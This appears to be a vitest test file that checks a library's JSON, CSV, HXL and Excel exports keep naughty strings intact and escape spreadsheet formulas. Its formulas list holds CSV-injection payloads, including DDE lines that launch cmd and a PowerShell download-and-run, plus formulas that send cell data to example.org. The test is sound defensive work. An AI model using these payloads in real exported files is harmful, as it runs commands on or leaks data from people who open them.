import { readdirSync, readFileSync } from 'node:fs';
import { createRequire } from 'node:module';
import { dirname, join } from 'node:path';
import { parse } from 'csv-parse/sync';
import readXlsx from 'read-excel-file/node';
import { expect, test } from 'vitest';
import type { Figure } from '#lib/records/model.ts';
import { parseText } from '#lib/values/text.ts';
import { figuresCsv, figuresHxlCsv } from '#lib/downloads/figures-csv.ts';
import { figuresJson } from '#lib/downloads/figures-json.ts';
import { caveat, definition, figure, library, source } from '../../../../tests/support/made.ts';
import { inert } from './inert.ts';
import { figureLd } from './json-ld.ts';
import { scriptText } from './script-text.ts';
import { figuresXlsx } from './xlsx.ts';

const edition = { situation: 'examplia-2030', site: null, revision: 'abcdef0123' };
const { resolve } = createRequire(import.meta.url);

/** The Big List of Naughty Strings. */
const naughty = JSON.parse(
  readFileSync(
    join(dirname(resolve('big-list-of-naughty-strings/package.json')), 'blns.json'),
    'utf8',
  ),
) as string[];

/** Every cell of csv-spectrum, as its own answers have them. */
const spectrumHome = join(dirname(resolve('csv-spectrum/package.json')), 'json');
const spectrum = readdirSync(spectrumHome).flatMap((file) => {
  const answer = JSON.parse(readFileSync(join(spectrumHome, file), 'utf8')) as
    Record<string, string> | Record<string, string>[];
  return [answer].flat().flatMap((row) => [...Object.keys(row), ...Object.values(row)]);
});

/** What has been tried against those who open a file in a spreadsheet, and what lies near it. */
const formulas = [
  '=1+1',
  "=cmd|'/C calc'!A0",
  '=HYPERLINK("https://example.org?x="&A1,"more")',
  '=IMPORTXML(CONCAT("https://example.org/?v=",CONCATENATE(A2:E2)),"//a")',
  '=IMPORTDATA("https://example.org")',
  '=IMAGE("https://example.org/a.png")',
  '=WEBSERVICE("https://example.org")',
  '=DDE("cmd";"/C calc";"x")',
  "=MSEXCEL|'\\..\\..\\Windows\\System32\\cmd.exe /c calc.exe'!''",
  "=rundll32|'URL.dll,OpenURL calc.exe'!A",
  '+1+1',
  "+cmd|'/C calc'!A0",
  '-1+1',
  "-2+3+cmd|'/C calc'!A0",
  '@SUM(1+1)',
  "@SUM(1+9)*cmd|'/C calc'!A0",
  '=A1&","&A2',
  '="x"&CHAR(9)',
  '＝1+1',
  '＋1+1',
  '－1+1',
  '＠SUM(1)',
  '=1+1";=2+2',
  '=1+1,=2+2',
  '"=1+1"',
  "'=1+1",
  ';=1+1',
  '=1+1\u00a0;',
  '%0A=1+1',
  "=SUM(1)*cmd|'/C powershell IEX(wget example.org/x)'!A0",
];

/** Whether the seeds would have let it in: what is refused at the door is in no file. */
function isLetIn(text: string): boolean {
  try {
    parseText(text);
    return true;
  } catch {
    return false;
  }
}

/** A figure that carries the text wherever a seed could have brought it. */
const carrying = (text: string, i: number): Figure =>
  figure({
    asOf: '2030-01-05',
    statedAs: text,
    note: text,
    locator: text,
    caveats: [caveat({ code: 'made-up', text })],
    definition: definition({ id: `rule-${i}`, text, label: text }),
    source: source({ id: `example-${i}`, title: text, licence: text, relayOf: text }),
  });

test.each([
  ['The Big List of Naughty Strings', naughty, 380],
  ['csv-spectrum', spectrum, 20],
  ['formulas', formulas, 30],
])('%s pass through every file unharmed, or escaped by the rule', async (_what, texts, least) => {
  const lawful = [...new Set(texts)].filter(isLetIn);
  expect(lawful.length).toBeGreaterThanOrEqual(least);
  const made = library(lawful.map(carrying));
  const keys = [
    'stated_as',
    'note',
    'locator',
    'caveats',
    'source',
    'licence',
    'relay_of',
  ] as const;

  const json = JSON.parse(figuresJson(made, edition)) as { figures: Record<string, unknown>[] };
  const csv = parse(figuresCsv(made, edition), { columns: true }) as Record<string, string>[];
  const hxl = parse(figuresHxlCsv(made, edition), { columns: true }) as Record<string, string>[];
  const workbook = await readXlsx(Buffer.from(await figuresXlsx(made, edition)), { trim: false });
  const [names = [], ...rows] = workbook.find(({ sheet }) => sheet === 'figures')?.data ?? [];
  // Of one cell in many: the letter of that number, as the format has it.
  const cellOf = (row: readonly unknown[] | undefined, key: string) =>
    String(row?.[names.indexOf(key)]).replaceAll('_x005F_', '_');

  for (const [i, text] of lawful.entries()) {
    for (const key of keys) {
      expect(json.figures[i]?.[key]).toBe(text);
      expect(csv[i]?.[key]).toBe(inert(text));
      expect(hxl[i + 1]?.[key]).toBe(inert(text));
      expect(cellOf(rows[i], key)).toBe(text);
    }
    const ld = figureLd(carrying(text, i), edition);
    const markup = scriptText(ld);
    expect(JSON.parse(markup)).toEqual(JSON.parse(JSON.stringify(ld)));
    expect(markup).not.toMatch(/[<>&\u2028\u2029]/);
  }
});

test('what begins like a formula is escaped, and nothing else is', () => {
  expect(formulas.filter((text) => inert(text) !== text).length).toBe(26);
  for (const text of formulas) expect(inert(text)).not.toMatch(/^\s*[=+\-@＝＋－＠]/);
  expect(inert('1-2')).toBe('1-2');
  expect(inert('half a million')).toBe('half a million');
});
